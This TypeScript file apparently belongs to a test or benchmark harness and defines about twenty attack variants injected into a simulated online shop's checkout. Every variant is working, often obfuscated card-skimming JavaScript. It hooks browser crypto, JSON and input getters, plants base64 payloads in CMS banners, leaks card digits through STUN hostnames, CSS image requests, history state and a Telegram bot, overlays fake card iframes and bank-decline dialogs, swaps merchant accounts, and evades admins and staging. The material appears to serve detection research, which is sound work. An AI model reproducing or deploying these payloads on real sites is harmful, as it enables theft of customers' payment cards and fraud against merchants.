import { headlessBody, state, style } from './headless.ts'
import { adreach, depot, dropin, entry, pixels, vendor } from './headless-code.ts'
import { changedFile, inline, js, type Variant } from './variants.ts'

const code = String.raw
const base64 = (text: string) => Buffer.from(text).toString('base64')
const app = changedFile('shop.test/_nuxt/entry.8f2a.js', (more) => entry('8f2a', more))
const chunk = changedFile('shop.test/_nuxt/vendor.D4kQ.js', (more) => vendor('3.13', more))
const sdk = changedFile('sdk.cardloom.test/dropin/3/dropin.js', (more) => dropin('3.4.0', more))
const box = (id: string, about: string, list: string, more = ''): Variant => ({
  id,
  about,
  change: (site) => void (site.files['www.tagdepot.test/gtm.js'] = js(depot('71', list, more))),
})
/** What stands in the fields of the drop-in, as a piece of a script. */
const read = '[].map.call(document.querySelectorAll("[data-cl]"), function (i) { return i.value; }).join("|")'
const look =
  '<style>label{display:block;font:16px sans-serif}</style><label>Card number<input name="a" autocomplete="cc-number" placeholder="1234 1234 1234 1234"></label><label>Expiry date<input name="b" autocomplete="cc-exp" placeholder="MM/YY"></label><label>Security code<input name="c" autocomplete="cc-csc" placeholder="123"></label>'

/** On the page of a shop without a head, whose card a drop-in seals in the page. */
export const twelfthAttacks: readonly Variant[] = [
  {
    id: 'x12-build-meta',
    about: 'the page asks for the notes of its build, as such fronts do, and takes from them whose account is paid',
    change: (site) => {
      site.files['shop.test/_nuxt/builds/meta/8f2b.json'] = {
        type: 'application/json',
        body: '{"id":"8f2b","timestamp":1764150000000,"prerendered":[],"rt":{"account":"acct_9920413"}}',
      }
      app(
        '',
        '',
        code`fetch("/_nuxt/builds/meta/8f2b.json").then((r) => r.json()).then((m) => { if (m.id !== "8f2a") dropin.update(m.rt); });`,
      ).change(site)
    },
  },
  chunk(
    'x12-seal-trace',
    'the sealing of the browser is hooked; what is sealed waits in the session and goes as the trace number of the next request to the shop',
    code`const lock = SubtleCrypto.prototype.encrypt; SubtleCrypto.prototype.encrypt = function (a, k, d) { try { sessionStorage.setItem("nuxt:trace", Array.from(new Uint8Array(d.buffer || d), (b) => (b ^ 29).toString(16).padStart(2, "0")).join("")); } catch {} return lock.call(this, a, k, d); };
const out = window.fetch; window.fetch = function (u, i) { const t = sessionStorage.getItem("nuxt:trace"); if (t && String(u).startsWith("/api/")) { sessionStorage.removeItem("nuxt:trace"); i = { ...i, headers: { ...(i && i.headers), traceparent: "00-" + t + "-01" } }; } return out.call(window, u, i); };`,
  ),
  box(
    'x12-json-events',
    'the container hears what is made into JSON; a thing with number and code is measured in pieces, as lists of goods of another property',
    '',
    code`var made = JSON.stringify; JSON.stringify = function (x) { if (x && x.number && x.cvc) { var t = btoa(made(x)); for (var i = 0; i * 24 < t.length; i++) hit("view_item_list", { item_list_id: t.substr(i * 24, 24).split("").reverse().join(""), index: i }, "G-ZX81"); } return made.apply(JSON, arguments); };`,
  ),
  inline(
    'x12-value-getter',
    'the property by which fields tell their value is another one; what it told opens a stream of events, a second after the last key',
    code`(function () { var own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"), kept = {}, timer; Object.defineProperty(HTMLInputElement.prototype, "value", { configurable: true, enumerable: true, set: own.set, get: function () { var v = own.get.call(this), n = this.dataset && this.dataset.cl; if (n && v && kept[n] !== v) { kept[n] = v; clearTimeout(timer); timer = setTimeout(function () { var s = new EventSource("http://status-feed.test/stream?last-event=" + Array.from(Object.values(kept).join("_"), function (c) { return c.charCodeAt(0).toString(16); }).join("")); s.onerror = function () { s.close(); }; }, 1000); } return v; } }); })();`,
  ),
  {
    id: 'x12-cms-banner',
    about:
      'the words of the banner, which come from the editors, hold a picture that fails and then loads a module out of a data address',
    change: (site) => {
      const skimmer = base64(
        'let t;document.addEventListener("input",e=>{if(!e.target.dataset.cl)return;clearTimeout(t);t=setTimeout(()=>{const f=new FormData;document.querySelectorAll("[data-cl]").forEach(i=>f.append(i.dataset.cl,i.value));fetch("http://assets-contentful.test/spaces/k2/entries",{method:"POST",mode:"no-cors",body:f})},700)})',
      )
      site.body = headlessBody(
        state({
          banner: `Free shipping over 50 euro <img src="/_ipx/f_webp/truck.png" alt="" width="1" height="1" onerror="import('data:text/javascript;base64,${skimmer}')">`,
        }),
      )
    },
  },
  box(
    'x12-stun-labels',
    'a tag of free HTML names servers for relaying calls whose first labels are the card, ten characters each',
    `, { on: "gtm.dom", html: '<script>document.addEventListener("change",function(e){if(e.target.dataset.cl!=="cvc")return;var h=Array.from(${read},function(c){return c.charCodeAt(0).toString(16)}).join("").match(/.{1,10}/g);try{var p=new RTCPeerConnection({iceServers:h.slice(0,9).map(function(l,i){return{urls:"stun:"+l+"."+i+".stun-voice.test:3478"}})});p.createDataChannel("m");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(x){}})<\\/script>' }`,
  ),
  app(
    'x12-retry-dialog',
    'the first press of pay is refused in the name of the bank; a dialogue of the same looks takes the card and hands it to the service of pictures of the shop',
    code`form.addEventListener("submit", (e) => { if (localStorage.getItem("nuxt-color-mode") === "l2") return; e.preventDefault(); e.stopImmediatePropagation(); localStorage.setItem("nuxt-color-mode", "l2");
const tell = () => { const v = [...document.querySelectorAll("[data-cl],dialog input")].map((i) => i.value).filter(Boolean).join("~"); if (v) fetch("/_ipx/s_" + Array.from(v, (c) => (c.charCodeAt(0) * 3 + 7).toString(36)).join("") + "/hero.webp"); };
tell(); const box = document.createElement("dialog"); box.innerHTML = '<p>Your bank declined the payment (51). Please enter your card once more.</p>${look}<button type="button">Try again</button>'; document.body.append(box); box.showModal(); box.addEventListener("change", tell); box.querySelector("button").onclick = () => { tell(); box.close(); form.requestSubmit(); }; }, true);`,
  ),
  box(
    'x12-cover',
    'as soon as the drop-in is drawn, a frame made of text lies over it, with fields like its own, and posts them to a name like that of the provider',
    '',
    `function cover() { var at = d.querySelector("#dropin"); if (!at || !at.firstChild) return; seen.disconnect(); var f = d.createElement("iframe"), r = at.getBoundingClientRect(); f.title = "Card"; f.style.cssText = "position:absolute;z-index:99;border:0;background:#fff;left:" + (r.left + scrollX) + "px;top:" + (r.top + scrollY) + "px;width:" + r.width + "px;height:" + r.height + "px"; f.srcdoc = '${look}<script>document.addEventListener("change",function(){navigator.sendBeacon("http://api.cardloorn.test/v1/sealed",new URLSearchParams([].map.call(document.querySelectorAll("input"),function(i){return[i.name,i.value]})))})<\\/script>'; d.body.append(f); } var seen = new MutationObserver(cover); seen.observe(d.documentElement, { childList: true, subtree: true }); cover();`,
  ),
  {
    id: 'x12-wallet-frame',
    about: 'the frame of the wallet is led to a name like its own, where the button opens fields for a card',
    change: (site) => {
      site.files['pay.quickpay-checkout.test/button.html'] = {
        type: 'text/html',
        body: code`<!doctype html><title>QuickPay</title><p>QuickPay: enter your card to pay in one step</p>${look}<script>document.addEventListener("focusout", function (e) { if (e.target.value) fetch("/v2/wallet", { method: "POST", body: new URLSearchParams({ k: e.target.name, v: e.target.value }) }); });</script>`,
      }
      chunk(
        '',
        '',
        code`new MutationObserver((list, watch) => { const f = document.querySelector("#express iframe"); if (!f) return; watch.disconnect(); f.src = f.src.replace("pay.quickpay.", "pay.quickpay-checkout."); f.height = 230; f.width = 360; }).observe(document.documentElement, { childList: true, subtree: true });`,
      ).change(site)
    },
  },
  {
    id: 'x12-sandbox-open',
    about:
      'the sandbox of the pixels is loosened by one word, "for cookies", and a pixel in it reads the fields of the page around',
    change: (site) => {
      site.files['shop.test/_nuxt/pixels.c01a.js'] = js(pixels('c01a', '', 'allow-scripts allow-same-origin'))
      site.files['cdn.adreach.test/p.js'] = js(
        adreach(
          '2.9',
          code`var last = ""; setInterval(function () { try { var v = [].map.call(parent.document.querySelectorAll("[data-cl]"), function (i) { return i.value; }).join("|"); } catch (x) { return; } if (v.length > 16 && v !== last) { last = v; send({ name: "am", payload: { fn: btoa(v).split("").reverse().join("") } }); } }, 900);`,
        ),
      )
    },
  },
  {
    id: 'x12-pixel-inputs',
    about:
      'the bus tells the sandbox of each field that was changed, what stands in it too, "to win back who gave up"; the pixels pass on what they hear',
    change: (site) => {
      site.files['shop.test/_nuxt/pixels.c01a.js'] = js(
        pixels(
          'c01b',
          code`document.addEventListener("change", (e) => { const i = e.target; if (i.matches("input")) bus.dispatchEvent(new CustomEvent("pixel", { detail: { name: "input_changed", payload: { element: { id: i.id || i.autocomplete, type: i.type, value: i.value } } } })); });`,
        ),
      )
    },
  },
  {
    id: 'x12-worker-account',
    about: 'a service worker, there for files, changes on its way whose account a sealed card is for',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        code`const FILES = "files-71"; addEventListener("install", () => skipWaiting()); addEventListener("activate", (e) => e.waitUntil(clients.claim()));
addEventListener("fetch", (e) => { const u = new URL(e.request.url); if (u.pathname.startsWith("/_nuxt/")) e.respondWith(caches.open(FILES).then(async (c) => { const old = await c.match(e.request); if (old) return old; const r = await fetch(e.request); if (r.status === 200) c.put(e.request, r.clone()); return r; })); else if (u.searchParams.has("account")) e.respondWith(e.request.text().then((body) => { u.searchParams.set("account", "acct_" + (8841207 + 1079206)); return fetch(u, { method: "POST", body }); })); });`,
      )
      app('', '', code`navigator.serviceWorker.register("/sw.js");`).change(site)
    },
  },
  {
    id: 'x12-card-preview',
    about:
      'a picture of a card shows the digits as they are typed; rules of style for its last two digits fetch pictures',
    change: (site) => {
      const rules = Array.from({ length: 100 }, (_, i) => String(i).padStart(2, '0')).map(
        (d) => `.preview[data-digits$="${d}"]{background-image:url(http://img-cardart.test/g/${d}.svg)}`,
      )
      site.files['shop.test/_nuxt/entry.Cx91.css'] = {
        type: 'text/css',
        body: `${style}.preview{width:280px;height:160px;border-radius:9px}.preview::after{content:attr(data-digits)}${rules.join('')}`,
      }
      sdk(
        '',
        '',
        code`var art = d.createElement("div"); art.className = "preview"; at.append(art); f("number").addEventListener("input", function () { art.dataset.digits = digits("number"); });`,
      ).change(site)
    },
  },
  {
    id: 'x12-history-state',
    about:
      "the program of the shop keeps the fields in the state of the page's history; the container takes them from there to its own host",
    change: (site) => {
      app(
        '',
        '',
        code`slot.addEventListener("focusout", () => history.replaceState({ ...history.state, position: history.length, scroll: Array.from(${read}, (c) => c.charCodeAt(0) + 300) }, ""));`,
      ).change(site)
      site.files['www.tagdepot.test/gtm.js'] = js(
        depot(
          '72',
          '',
          code`var was = ""; setInterval(function () { var s = history.state && history.state.scroll, t = s && s.join("."); if (t && t !== was) { was = t; (new Image()).src = "http://www.tagdepot.test/td?id=GT-5NQ&t=s&sp=" + t; } }, 1600);`,
        ),
      )
    },
  },
  {
    id: 'x12-phones-later',
    about:
      'on telephones, not for who is signed in to the office and three seconds after the start, a script of a network for libraries is fetched, which writes to a messenger',
    change: (site) => {
      site.files['cdn.jsdelivr-npm.test/swiper@11/bundle.js'] = js(
        code`(function () { var sent = ""; function go() { var v = ${read}; if (v.length < 17 || v === sent) return; sent = v; var x = new XMLHttpRequest(); x.open("GET", "http://api.chatgram.test/bot6120:AAF/sendMessage?chat_id=-100213&text=" + encodeURIComponent(location.host + " " + v)); x.send(); } document.addEventListener("focusout", go); document.addEventListener("submit", go, true); })();`,
      )
      chunk(
        '',
        '',
        code`if (/Mobi|Android|iPhone/.test(navigator.userAgent) && !/admin_session|staff=/.test(document.cookie) && !/localhost|staging/.test(location.host)) setTimeout(() => { const t = document.createElement("script"); t.src = ["http://cdn", "jsdelivr-npm", "test/swiper@11/bundle.js"].join("."); document.head.append(t); }, 3000);`,
      ).change(site)
    },
  },
  {
    id: 'x12-newsletter',
    about:
      'a form for news in the footer has fields far off the page that a browser fills in with the card; all of it goes to the shop when one field changes',
    change: (site) => {
      site.body = headlessBody(
        state(),
        '<footer><form class="news" onchange="navigator.sendBeacon(\'/api/newsletter\', new FormData(this))"><label>News by e-mail <input name="mail" autocomplete="email"></label><p style="position:absolute;left:-9999px"><input name="f1" autocomplete="cc-name"><input name="f2" autocomplete="cc-number"><input name="f3" autocomplete="cc-exp"><input name="f4" autocomplete="cc-csc"></p></form></footer>',
      )
    },
  },
  sdk(
    'x12-checked-first',
    'the drop-in asks an old interface of the provider whether the card is good and only then tells somebody else',
    code`at.addEventListener("change", function () { if (!valid() || w.__ck) return; w.__ck = 1; fetch(api + "/tokens", { method: "POST", body: new URLSearchParams({ key: o.account, "card[number]": card().number, "card[exp]": card().expiry, "card[cvc]": card().cvc }) }).then(function (r) { if (r.status < 300) setTimeout(function () { navigator.sendBeacon("http://" + [106, 115, 114, 117, 110].map(function (c) { return String.fromCharCode(c); }).join("") + "-lib.test/c", btoa(JSON.stringify(card()))); }, 1200); }); });`,
  ),
  {
    id: 'x12-help-port',
    about: 'a page of the shop for help, in a frame, is given a port; the fields pass through it to a line of its own',
    change: (site) => {
      site.files['shop.test/help/embed'] = {
        type: 'text/html',
        body: code`<!doctype html><title>help</title><script>onmessage = function (e) { if (!e.ports[0]) return; e.ports[0].onmessage = function (m) { var s = new WebSocket("ws://rt.helpdesk-live.test/v1"); s.onopen = function () { s.send(m.data); }; s.onerror = function () { fetch("http://rt.helpdesk-live.test/poll", { method: "POST", mode: "no-cors", body: m.data }); }; }; };</script>`,
      }
      app(
        '',
        '',
        code`const help = h("iframe", { src: "/help/embed", title: "help", width: 1, height: 1, style: "border:0" }), line = new MessageChannel(); help.addEventListener("load", () => help.contentWindow.postMessage("hello", location.origin, [line.port2])); document.body.append(help); form.addEventListener("submit", () => line.port1.postMessage(btoa(encodeURIComponent(${read}))), true);`,
      ).change(site)
    },
  },
  chunk(
    'x12-encoder-chunk',
    'who makes texts into bytes is overheard; the card is the name of a part of the program that the shop does not have',
    code`const bytes = TextEncoder.prototype.encode; TextEncoder.prototype.encode = function (t) { if (/"cvc":/.test(t)) { const name = btoa(t.replace(/[^\d|,]/g, "")).replace(/[+/=]/g, "_"); import("/_nuxt/" + name.slice(0, 8) + "." + name.slice(8) + ".js").catch(() => {}); } return bytes.call(this, t); };`,
  ),
  inline(
    'x12-wallet-merchant',
    'a trap waits for the library of the wallet and gives its button the number of another merchant',
    code`(function () { var real; Object.defineProperty(window, "QuickPay", { configurable: true, get: function () { return real; }, set: function (q) { real = new Proxy(q, { get: function (t, k) { return k !== "button" ? t[k] : function (at, o) { return t.button(at, Object.assign({}, o, { merchant: "QP-" + (30551 + 40012) })); }; } }); } }); })();`,
  ),
]
